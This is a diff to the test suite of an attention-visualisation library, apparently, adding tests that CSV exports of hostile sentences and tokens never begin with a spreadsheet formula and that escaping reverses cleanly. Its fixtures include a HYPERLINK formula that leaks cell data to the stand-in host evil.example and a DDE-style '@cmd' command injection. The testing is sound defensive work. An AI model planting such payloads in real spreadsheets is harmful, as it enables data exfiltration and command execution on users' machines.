@@ -1,14 +1,18 @@
-"""Exports of hostile text: opened in a real Chromium, offline, nothing a visitor typed runs.
+"""Exports of hostile text: nothing a visitor typed runs, in a browser or in a spreadsheet.
 
 Every string a visitor gives travels into files that are opened later, elsewhere (a shared link
 carries the sentence). These tests write HTML exports of hostile sentences and of figures with
 hostile tokens, open them in Chromium with every non-file request blocked, and check what the
 browser really did: no dialog, no `window.pwned`, no element the payload would have created, no
 Content-Security-Policy violation, and the settings read back exactly from their JSON block.
+The CSV tests read exports of formula-like sentences and tokens back with the csv module and
+pandas: no text cell starts a formula, and the documented un-escaping recovers every string.
 """
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import subprocess
@@ -18,13 +22,18 @@ from pathlib import Path
 from typing import Any
 
 import numpy as np
+import pandas as pd
 import plotly.graph_objects as go
 import pytest
 
 from attnviz import Attention, views
 from attnviz.export import (
     SETTINGS_ELEMENT_ID,
+    csv_cell,
+    csv_uncell,
     figure_html,
+    head_csv,
+    read_head_csv,
     settings_from_html,
 )
 
@@ -263,3 +272,98 @@ def test_cli_html_of_a_hostile_sentence_is_inert(chromium: Chromium, minilm: Any
     assert_inert(report, benign_report, chromium)
     assert report["settings"] == {"text": sentence, "model": "minilm"}
     assert settings_from_html((tmp_path / "out.html").read_text(encoding="utf-8")) == report["settings"]
+
+
+# --- CSV: no cell a spreadsheet would run -----------------------------------------------------
+
+FORMULA_TOKENS = [
+    "=1+1",
+    "+SUM(A1)",
+    "-2+3",
+    "@cmd",
+    "\t=x",
+    "\r=x",
+    "\n=x",
+    "=",
+    "+",
+    "-",
+    "@",
+    "a,b",
+    'q"uote',
+    "new\nline",
+    "'=already quoted",
+    "''@twice",
+    "'",
+    "it's",
+    "\0=x",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+]
+FORMULA_SENTENCES = [
+    '=HYPERLINK("http://evil.example/?"&A1, "a, b")',
+    "+SUM(A1:A9), then -2+3\n@cmd|' /C calc'!A0",
+    '\t=1+1, "quoted, with commas"\r\nand a second line',
+    "-",
+    "'=starts with a quote",
+]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
+_BASE_SETTINGS = ["text", "model", "device", "truncated", "layer", "head"]  # then the caller's, in order
+
+
+def formula_attention(text: str) -> Attention:
+    n = len(FORMULA_TOKENS)
+    w = np.random.default_rng(1).random((2, 2, n, n)).astype(np.float32) ** 8  # small weights too: 1e-9 and less
+    return Attention(tokens=FORMULA_TOKENS, weights=w / w.sum(-1, keepdims=True), model="=model", text=text)
+
+
+@pytest.mark.parametrize("text", FORMULA_SENTENCES)
+@pytest.mark.parametrize(("layer", "head"), [(1, 0), (0, None)])
+def test_head_csv_has_no_formula_cells_and_reads_back(text: str, layer: int, head: int | None) -> None:
+    att = formula_attention(text)
+    settings = {"options": {"merge_words": False}, "note": "-1 is text here", "count": -1}
+    out = head_csv(att, layer, head, settings)
+    rows = list(csv.reader(io.StringIO(out, newline="")))
+    n = att.n
+    shape = [*_BASE_SETTINGS, *settings]
+    assert len(rows) == len(shape) + 1 + n
+    assert all(len(r) == 2 for r in rows[: len(shape)]) and all(len(r) == n + 1 for r in rows[len(shape) :])
+    numbers = {(i, j) for i in range(len(shape) + 1, len(rows)) for j in range(1, n + 1)} | {(len(shape) - 1, 1)}
+    for i, row in enumerate(rows):
+        for j, cell in enumerate(row):
+            if (i, j) in numbers:  # numbers we wrote: plain numbers, never quoted
+                float(cell)
+            else:
+                assert not cell.startswith(FORMULA_START), (i, j, cell)
+    assert [r[0] for r in rows[: len(shape)]] == [f"# {k}" for k in shape]
+    # the documented un-escaping gives back the sentence, the tokens, the numbers
+    assert csv_uncell(rows[0][1]) == text
+    assert [csv_uncell(c) for c in rows[len(shape)][1:]] == att.tokens
+    assert [csv_uncell(r[0]) for r in rows[len(shape) + 1 :]] == att.tokens
+    matrix = np.array([[float(x) for x in r[1:]] for r in rows[len(shape) + 1 :]])
+    np.testing.assert_allclose(matrix, att.head(layer, head), rtol=5e-6, atol=1e-12)
+    got_settings, got_tokens, got_matrix = read_head_csv(out)
+    assert got_settings["text"] == text and got_settings["count"] == "-1" and got_settings["note"] == settings["note"]
+    assert json.loads(got_settings["options"]) == settings["options"] and got_tokens == att.tokens
+    np.testing.assert_array_equal(got_matrix, matrix)
+
+    # pandas: the settings are the first rows (two cells each), the matrix follows them
+    table = pd.read_csv(
+        io.StringIO(out), skiprows=len(shape), header=None, dtype=str, keep_default_na=False, comment=None
+    )
+    assert table.shape == (n + 1, n + 1)
+    assert [csv_uncell(c) for c in table.iloc[0, 1:]] == att.tokens
+    assert [csv_uncell(c) for c in table.iloc[1:, 0]] == att.tokens
+    np.testing.assert_allclose(table.iloc[1:, 1:].astype(float).to_numpy(), att.head(layer, head), atol=1e-6)
+    head_rows = pd.read_csv(io.StringIO(out), nrows=len(shape), header=None, dtype=str, keep_default_na=False)
+    assert csv_uncell(head_rows.iloc[0, 1]) == text
+    assert not any(str(c).startswith(FORMULA_START) for c in table.iloc[0].tolist() + table.iloc[:, 0].tolist())
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["=1+1", "+", "-2", "@", "\t=", "\r=", "\n=", "\0=", "'=", "''=", "'''+", "'", "''", "'a", "a=b", "", "=", "it's"],
+)
+def test_csv_cell_rule_is_reversible_and_neutral(text: str) -> None:
+    cell = csv_cell(text)
+    assert csv_uncell(cell) == text
+    assert not cell.startswith(FORMULA_START)
+    assert cell == text or cell == "'" + text
